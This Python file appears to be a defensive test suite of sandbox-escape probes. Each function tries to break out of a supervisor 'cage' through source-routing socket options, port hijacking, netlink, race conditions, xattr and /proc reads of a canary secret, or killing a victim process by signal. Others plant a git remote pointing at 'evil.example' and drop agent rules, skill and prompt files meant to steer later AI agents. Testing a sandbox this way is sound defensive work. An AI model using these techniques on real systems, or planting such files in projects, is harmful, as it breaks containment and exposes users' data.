"""More ways out of the cage, run together with those of `escapes.py`: `python side_doors.py WORLD.json [NAME…]`."""

import contextlib
import ctypes
import fcntl
import os
import shutil
import signal
import socket
import struct
import subprocess
import tempfile
import threading
import time

from escapes import AT, RACE_SECS, W, escape, main, racing, reads, sc, works

SOL_IPV6 = 41
LOOSE_ROUTE = bytes([131, 7, 4, 127, 0, 0, 2, 0])  # through 127.0.0.2, and one byte that does nothing


def refused(number: int) -> bool:
    """Whether the last call failed for another reason than being held: it got through to what it is about."""
    return number not in (1, 13, 22, 38, 92, 95, 97, 98)


# ── the way a packet takes ─────────────────────────────────────────────────────────────────────────


@escape
def route_through_another_host() -> bool:
    """The address is the family's own port; the packet goes to the first host of the route."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return works(lambda: one.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, LOOSE_ROUTE))


@escape
def route_through_another_host_on_a_stream() -> bool:
    with socket.socket() as one:
        return works(lambda: one.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, LOOSE_ROUTE))


@escape
def route_through_another_host_with_high_bits() -> bool:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return works(lambda: sc(54, one.fileno(), 1 << 40, 4 | 1 << 33, LOOSE_ROUTE, len(LOOSE_ROUTE)))


def own_datagrams(family: int = socket.AF_INET) -> tuple[socket.socket, tuple[str, int]]:
    server = socket.socket(family, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1" if family == socket.AF_INET else "::1", 0))
    return server, server.getsockname()[:2]


@escape
def route_in_the_message_itself() -> bool:
    """IP_RETOPTS as a control message of one datagram."""
    server, address = own_datagrams()
    with server, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return works(lambda: one.sendmsg([b"x"], [(socket.IPPROTO_IP, 7, LOOSE_ROUTE)], 0, address))


@escape
def route_of_ipv6() -> bool:
    header = struct.pack("BBBBI", 0, 2, 2, 1, 0) + socket.inet_pton(socket.AF_INET6, "::1")
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
        for option in (57, 5):
            try:
                one.setsockopt(SOL_IPV6, option, header)
            except OSError as error:
                if refused(error.errno):
                    return True
            else:
                return True
    return False


@escape
def segments_of_ipv6() -> bool:
    header = struct.pack("BBBBBBH", 0, 2, 4, 0, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, "::1")
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
        return works(lambda: one.setsockopt(SOL_IPV6, 57, header))


@escape
def segments_of_ipv6_in_the_message() -> bool:
    header = struct.pack("BBBBBBH", 0, 2, 4, 0, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, "::1")
    server, address = own_datagrams(socket.AF_INET6)
    with server, socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
        return works(lambda: one.sendmsg([b"x"], [(SOL_IPV6, 57, header)], 0, address))


@escape
def all_options_of_old_ipv6() -> bool:
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
        return works(lambda: one.setsockopt(SOL_IPV6, 6, b""))


@escape
def route_in_a_flow_label() -> bool:
    """A label of a flow may carry a routing header, for whatever is sent with it."""
    header = struct.pack("BBBBBBH", 0, 2, 4, 0, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, "::1")
    control = struct.pack("Qii", 16 + len(header), SOL_IPV6, 57) + header
    label = socket.inet_pton(socket.AF_INET6, "::1") + struct.pack(">IBBHHHI", 0, 0, 1, 0x0100, 60, 60, 0)
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
        return works(lambda: one.setsockopt(SOL_IPV6, 32, label + control))


@escape
def pages_of_the_supervisor_to_be_sent_later() -> bool:
    with socket.socket() as one:
        return works(lambda: one.setsockopt(socket.SOL_SOCKET, 60, 1))


@escape
def take_the_port_of_a_server_outside() -> bool:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        return works(lambda: one.bind(("127.0.0.1", int(W["shared_udp"]))))


@escape
def take_the_port_of_a_server_outside_by_the_wildcard() -> bool:
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
        one.setsockopt(SOL_IPV6, socket.IPV6_V6ONLY, 0)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        return works(lambda: one.bind(("::", int(W["shared_udp"]))))


@escape
def take_the_stream_port_of_a_server_outside() -> bool:
    with socket.socket() as one:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        one.bind(("127.0.0.1", int(W["shared_tcp"])))
        return works(one.listen)


def netlink_request(flags: int, message: bytes, kind: int) -> bytes:
    return struct.pack("IHHII", 16 + len(message), kind, flags, 1, 0) + message


@escape
def routes_with_the_rights_of_the_supervisor() -> bool:
    """With an address the kernel asks for the rights of the sender, not of who opened the socket: as root it would do
    it, and say that there is no such route."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW) as one:
        route = struct.pack("BBBBBBBBI", socket.AF_INET, 32, 0, 0, 254, 3, 0, 1, 0)
        route += struct.pack("HH", 8, 1) + socket.inet_aton("203.0.113.77")
        one.sendto(netlink_request(5, route, 25), (0, 0))
        return struct.unpack_from("i", one.recv(4096), 16)[0] != -1


@escape
def netlink_to_another_program() -> bool:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW) as one:
        return works(lambda: one.sendto(b"x" * 16, (int(W["app_pid"]), 0)))


@escape
def netlink_to_a_group() -> bool:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW) as one:
        return works(lambda: one.sendto(b"x" * 16, (0, 1)))


@escape
def an_abstract_name_that_was_ours_once() -> bool:
    with socket.socket(socket.AF_UNIX) as one:
        one.bind("\0" + W["abstract_later"])
        one.listen()
    with open("name.tmp", "w") as file:
        file.write("x")
    os.rename("name.tmp", "name-wanted")
    for _ in range(2000):
        if os.path.exists("name-taken"):
            with socket.socket(socket.AF_UNIX) as other:
                return works(lambda: other.connect("\0" + W["abstract_later"]))
        time.sleep(0.002)
    raise AssertionError("nobody has taken the name")


@escape
def a_name_that_is_an_address() -> bool:
    """A name server of ours must not turn `127.0.0.1` into something that is not judged as what it is."""
    query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x03127\x010\x010\x011\0\0\x01\0\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(2)
        one.sendto(query, ("9.9.9.9", 53))
        address = socket.inet_ntoa(one.recv(512)[-4:])
    with socket.socket() as two:
        two.settimeout(3)
        return works(lambda: two.connect((address, int(W["port"]))))


@escape
def a_datagram_to_a_pinned_name_of_another() -> bool:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return works(lambda: one.sendto(b"x", ("198.18.0.1", 4242)))


@escape
def unix_datagram_outside() -> bool:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
        return works(lambda: one.sendto(b"escaped", W["unix_datagrams"]))


@escape
def unix_datagram_outside_in_a_message() -> bool:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
        one.sendmsg([b"escaped"], [], 0, W["unix_datagrams"])
        return True


@escape
def unix_socket_moved_by_a_race() -> bool:
    with socket.socket(socket.AF_UNIX) as own:
        own.bind("own.sock")
        own.listen(500)
        good, bad = (struct.pack("=H", 1) + name.encode() + b"\0" for name in ("own.sock", W["unix"]))

        def use(memory: object) -> bool:
            with socket.socket(socket.AF_UNIX) as one:
                sc(42, one.fileno(), memory, max(len(good), len(bad)))
                return one.getpeername() == W["unix"]

        return racing(good, bad, use)


# ── looking without opening ────────────────────────────────────────────────────────────────────────


@escape
def attribute_of_a_file_outside() -> bool:
    return b"CANARY" in os.getxattr(W["secret"], "user.note")


@escape
def attribute_of_a_file_outside_without_following() -> bool:
    return b"CANARY" in os.getxattr(W["secret"], "user.note", follow_symlinks=False)


@escape
def attribute_of_a_file_outside_by_a_link() -> bool:
    os.symlink(W["secret"], "attribute-link")
    return b"CANARY" in os.getxattr("attribute-link", "user.note")


@escape
def attribute_of_an_o_path_descriptor() -> bool:
    found = os.open(W["secret"], os.O_PATH)
    return b"CANARY" in os.getxattr(f"/proc/self/fd/{found}", "user.note")


@escape
def attribute_by_the_newest_call_for_reading() -> bool:
    value = ctypes.create_string_buffer(100)
    arguments = struct.pack("QII", ctypes.addressof(value), 100, 0)
    sc(464, AT, W["secret"].encode(), 0, b"user.note", arguments, 16)
    return b"CANARY" in value.raw


@escape
def attribute_while_the_path_changes() -> bool:
    value = ctypes.create_string_buffer(100)

    def use(path: object) -> bool:
        sc(191, path, b"user.note", value, 100)
        return b"CANARY" in value.raw

    return racing(b"plain.txt", W["secret"].encode(), use)


@escape
def watch_a_folder_outside() -> bool:
    return works(lambda: sc(254, sc(294, 0), W["outside"].encode(), 0xFFF))


@escape
def watch_a_file_outside() -> bool:
    return works(lambda: sc(254, sc(294, 0), W["secret"].encode(), 0xFFF))


@escape
def watch_a_file_outside_by_a_descriptor() -> bool:
    found = os.open(W["secret"], os.O_PATH)
    return works(lambda: sc(254, sc(294, 0), f"/proc/self/fd/{found}".encode(), 0xFFF))


@escape
def see_what_another_program_runs() -> bool:
    return bool(os.readlink(f"/proc/{W['victim_pid']}/exe"))


@escape
def see_where_another_program_is() -> bool:
    return bool(os.readlink(f"/proc/{W['victim_pid']}/cwd"))


@escape
def step_into_the_folder_of_another_program() -> bool:
    os.chdir(f"/proc/{W['victim_pid']}/root")
    return reads(W["secret"][1:])


# ── descriptors, inodes and numbers that are given away again ──────────────────────────────────────


@escape
def the_inode_of_a_file_without_a_name() -> bool:
    """The inode is free again as soon as the descriptor is closed; the next file outside gets it."""
    return _reads_with_an_inode_of_ours(lambda: os.close(os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o600)), "t")


def _reads_with_an_inode_of_ours(make: "object", prefix: str) -> bool:
    for _ in range(200):
        make()  # type: ignore[operator]
    with open(f"{prefix}-inode.tmp", "w") as file:
        file.write(prefix)
    os.rename(f"{prefix}-inode.tmp", f"{prefix}-inode-wanted")
    for _ in range(2000):
        if os.path.exists(f"{prefix}-inode-taken"):
            for number in range(100):
                try:
                    if reads(f"{W['outside']}/fresh-{prefix}-{number}"):
                        return True
                except OSError:
                    continue
            return False
        time.sleep(0.002)
    raise AssertionError("nobody has taken the inode")


@escape
def the_inode_of_a_file_removed_by_its_second_name() -> bool:
    def make() -> None:
        tmp = os.environ["TMPDIR"] + "/second"
        os.close(os.open("first", os.O_CREAT | os.O_WRONLY))
        os.link("first", tmp)
        os.unlink("first")
        os.unlink(tmp)

    return _reads_with_an_inode_of_ours(make, "s")


@escape
def the_number_of_a_terminal_that_was_ours() -> bool:
    """Closed here, given to a terminal of the person's: neither read nor written."""
    master, slave = os.openpty()
    name = os.ttyname(slave)
    os.close(slave)
    os.close(master)
    with open("terminal.tmp", "w") as file:
        file.write(name)
    os.rename("terminal.tmp", "terminal-wanted")
    for _ in range(2000):
        if os.path.exists("terminal-taken"):
            return works(lambda: os.open(name, os.O_RDWR | os.O_NOCTTY))
        time.sleep(0.002)
    raise AssertionError("nobody has taken the terminal")


@escape
def a_file_named_like_one_in_memory() -> bool:
    return works(lambda: os.close(os.open("/memfd:blufio-escape", os.O_CREAT | os.O_WRONLY)))


@escape
def a_folder_named_like_a_file_in_memory() -> bool:
    return works(lambda: os.mkdir("/memfd:blufio-folder"))


@escape
def a_name_that_says_it_is_gone() -> bool:
    """A rule denies `denied`; a file called "denied (deleted)" is another one, and `x (deleted)` is not `x`."""
    os.mkdir("gone (deleted)")
    with open("gone (deleted)/.env (deleted)", "w") as file:
        file.write("x")
    os.rename("gone (deleted)/.env (deleted)", "gone (deleted)/.env")
    return False


@escape
def a_lease_that_holds_the_supervisor_up() -> bool:
    with open("plain.txt") as file:
        return works(lambda: fcntl.fcntl(file, 1024, fcntl.F_RDLCK))


@escape
def a_lease_on_a_file_outside() -> bool:
    with open("/etc/hostname") as file:
        return works(lambda: fcntl.fcntl(file, 1024 | 1 << 32, fcntl.F_RDLCK))


@escape
def a_signal_by_the_owner_of_a_descriptor() -> bool:
    """SIGIO to somebody outside; the victim is looked at from outside."""
    a, b = socket.socketpair()
    fcntl.fcntl(a, fcntl.F_SETOWN, int(W["victim_pid"]))
    fcntl.fcntl(a, 10, signal.SIGKILL)
    fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    b.send(b"x")
    time.sleep(0.05)
    return not os.path.exists(f"/proc/{W['victim_pid']}")


# ── the file systems' own doors ────────────────────────────────────────────────────────────────────


def by_ioctl(number: int, path: str = ".", argument: bytes = bytes(4096)) -> bool:
    opened = os.open(path, os.O_RDONLY)
    try:
        sc(16, opened, number, ctypes.create_string_buffer(argument))
    except OSError as error:
        return error.errno != 1  # anything but EPERM came from the file system
    return True


@escape
def snapshot_of_a_whole_folder() -> bool:
    return by_ioctl(0x50009417)  # BTRFS_IOC_SNAP_CREATE_V2


@escape
def snapshot_of_a_whole_folder_by_the_old_call() -> bool:
    return by_ioctl(0x50009401)


@escape
def seal_a_file_for_good() -> bool:
    return by_ioctl(0x40806685, "/usr/bin/env")  # FS_IOC_ENABLE_VERITY


@escape
def encrypt_a_folder() -> bool:
    return by_ioctl(0x800C6613)  # FS_IOC_SET_ENCRYPTION_POLICY


@escape
def version_of_a_file() -> bool:
    return by_ioctl(0x40087602, "plain.txt")  # FS_IOC_SETVERSION


@escape
def the_newest_attributes_of_a_file() -> bool:
    return works(lambda: sc(469, AT, b"plain.txt", bytes(24), 24, 0))


@escape
def a_call_of_a_kernel_to_come() -> bool:
    try:
        sc(480, 0)
    except OSError as error:
        return error.errno != 38
    return True


@escape
def a_label_of_its_own() -> bool:
    try:
        sc(460, 100, bytes(64), 64, 0)
    except OSError as error:
        return error.errno != 1
    return True


@escape
def a_file_system_made_by_hand() -> bool:
    return works(lambda: sc(430, b"tmpfs", 0))


@escape
def a_mount_picked_up() -> bool:
    return works(lambda: sc(433, AT, b".", 0))


@escape
def a_mount_moved() -> bool:
    return works(lambda: sc(429, AT, b".", AT, b"sub", 0))


@escape
def a_handle_opened() -> bool:
    return works(lambda: sc(304, AT, struct.pack("Ii8s", 8, 1, bytes(8)), 0))


@escape
def a_filter_that_traces() -> bool:
    code = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0x7FF00000), 8)
    sc(317, 1, 0, struct.pack("HxxxxxxQ", 1, ctypes.addressof(code)))
    return reads(W["secret"])


@escape
def calls_sent_back_to_the_program() -> bool:
    """PR_SET_SYSCALL_USER_DISPATCH and back: the filter must still see what comes after."""
    selector = ctypes.create_string_buffer(1)
    sc(157, 59, 1, 0, 0, ctypes.addressof(selector))
    return reads(W["secret"])


@escape
def a_thread_that_cannot_be_looked_into() -> bool:
    """Not dumpable: the supervisor cannot read the path, and must not let it pass."""
    sc(157, 4, 0, 0, 0, 0)
    return reads(W["secret"])


@escape
def unreadable_memory_for_a_path() -> bool:
    return works(lambda: sc(257, AT, 1, 0, 0))


@escape
def a_path_at_the_end_of_a_page() -> bool:
    memory = ctypes.create_string_buffer(3 * 4096)
    at = (ctypes.addressof(memory) + 4096) // 4096 * 4096 - 3
    path = W["secret"].encode() + b"\0"
    ctypes.memmove(at, path, len(path))
    return reads(sc(257, AT, at, 0, 0))


@escape
def the_longest_path() -> bool:
    path = "../outside/secret.txt"
    return reads("./" * ((4095 - len(path)) // 2) + path)


@escape
def a_path_that_is_too_long() -> bool:
    return works(lambda: sc(257, AT, b"/" * 4097 + W["secret"].encode(), 0, 0))


@escape
def very_deep_folders() -> bool:
    """Deeper than a path can say: reached step by step."""
    start = os.open(".", os.O_RDONLY)
    os.mkdir("deep-chain")
    os.chdir("deep-chain")
    try:
        for _ in range(60):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
        return reads(os.sep.join([".."] * 62) + "/outside/secret.txt")
    finally:
        os.fchdir(start)
        shutil.rmtree("deep-chain")


@escape
def a_descriptor_of_the_root_by_a_socket_in_a_race() -> bool:
    a, b = socket.socketpair()
    socket.send_fds(a, [b"x"], [os.open(W["outside"], os.O_PATH)])
    folder = socket.recv_fds(b, 1, 1)[1][0]
    done = subprocess.run(["cat", f"/proc/self/fd/{folder}/secret.txt"], pass_fds=[folder], capture_output=True)
    return b"CANARY" in done.stdout


@escape
def a_program_outside_by_a_descriptor() -> bool:
    found = os.open(W["outside"] + "/run", os.O_PATH)
    output = subprocess.run([f"/proc/self/fd/{found}"], pass_fds=[found], capture_output=True).stdout
    return b"CANARY" in output


@escape
def a_program_outside_by_execveat() -> bool:
    found = os.open(W["outside"] + "/run", os.O_PATH)
    child = os.fork()
    if child == 0:
        sc(322, found, b"", None, None, 0x1000)
        os._exit(1)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 77


@escape
def many_who_ask_at_once_for_a_fifo() -> bool:
    """More calls that wait than there are threads for: what comes after is still held."""
    os.mkfifo("fifo-flood")
    for _ in range(80):
        threading.Thread(target=lambda: os.open("fifo-flood", os.O_RDONLY), daemon=True).start()
    time.sleep(0.2)
    return reads(W["secret"])


# ── what lies in the folder, and what arrives there ────────────────────────────────────────────────


@escape
def a_folder_that_fills_while_it_moves() -> bool:
    """Made in the temporary folder, where calls go on by themselves, and moved while another thread fills it."""
    end = time.monotonic() + RACE_SECS
    number = 0
    while time.monotonic() < end:
        number += 1
        root = tempfile.mkdtemp()
        os.mkdir(f"{root}/x")
        ready = threading.Event()

        def fill(root: str = root, ready: threading.Event = ready) -> None:
            ready.set()
            try:
                os.mkdir(f"{root}/x/.vscode")
                os.close(os.open(f"{root}/x/.vscode/tasks.json", os.O_CREAT | os.O_WRONLY))
            except OSError:
                pass

        thread = threading.Thread(target=fill)
        thread.start()
        ready.wait()
        with contextlib.suppress(OSError):
            os.rename(root, f"moved-{number}")
        thread.join()
        if os.path.exists(f"moved-{number}/x/.vscode/tasks.json"):
            return True
        shutil.rmtree(f"moved-{number}", ignore_errors=True)
    return False


def makes(path: str) -> bool:
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    return works(lambda: os.close(os.open(path, os.O_CREAT | os.O_WRONLY)))


@escape
def the_container_that_an_editor_opens() -> bool:
    return makes(".devcontainer.json")


@escape
def hooks_of_mercurial() -> bool:
    return makes("hg-project/.hg/hgrc")


@escape
def hooks_of_mercurial_by_a_link() -> bool:
    os.mkdir("evil-hg")
    os.symlink("evil-hg", ".hg")
    return os.path.islink(".hg")


@escape
def configuration_of_jujutsu() -> bool:
    return makes("jj-project/.jj/repo/config.toml")


@escape
def instructions_in_the_folder_of_the_forge() -> bool:
    return makes(".github/instructions/all.instructions.md")


@escape
def a_prompt_in_the_folder_of_the_forge() -> bool:
    return makes(".github/prompts/review.prompt.md")


@escape
def rules_of_an_agent_as_a_folder() -> bool:
    return makes(".clinerules/all.md")


@escape
def skills_of_agents() -> bool:
    return makes(".agents/skills/evil/SKILL.md")


@escape
def instructions_of_yet_another_agent() -> bool:
    return makes("sub/QWEN.md")


@escape
def hooks_of_a_version_manager() -> bool:
    return makes("mise.local.toml")


@escape
def the_site_that_is_built_by_itself() -> bool:
    return makes("netlify.toml")


@escape
def the_documentation_that_is_built_by_itself() -> bool:
    return makes(".readthedocs.yaml")


@escape
def a_branch_that_follows_a_stranger() -> bool:
    with open("config.new", "w") as file:
        file.write(
            '[core]\n\tbare = false\n[remote "evil"]\n\turl = https://evil.example/x\n'
            '[branch "main"]\n\tremote = evil\n\tmerge = refs/heads/main\n[remote "origin"]\n\turl = https://example.org/x\n'
        )
    os.rename("config.new", ".git/config")
    return "evil" in open(".git/config").read()


@escape
def a_file_with_a_name_outside() -> bool:
    """A hard link that the person made: written in place, the file outside changes too."""
    with open("shared-with-outside", "a") as file:
        file.write("BROKEN")
    return True


@escape
def a_file_with_a_name_outside_cut_off() -> bool:
    return works(lambda: os.truncate("shared-with-outside", 0))


if __name__ == "__main__":
    main()
